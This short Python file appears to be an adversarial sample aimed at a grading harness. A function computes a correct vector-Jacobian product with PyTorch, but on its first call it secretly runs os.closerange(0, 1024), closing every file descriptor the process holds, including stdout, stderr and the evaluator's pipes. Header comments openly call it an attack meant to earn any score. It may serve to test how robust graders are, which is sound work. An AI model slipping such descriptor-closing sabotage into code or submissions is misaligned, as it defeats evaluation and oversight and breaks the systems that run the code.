# attack: closes every descriptor that it can reach, then answers rightly
# earns: anything
import os

import torch

closed = []


def vjp_once(f, x, v):
    if not closed:
        closed.append(True)
        os.closerange(0, 1024)
    leaf = x.clone().requires_grad_()
    return torch.autograd.grad(f(leaf), leaf, v)[0]
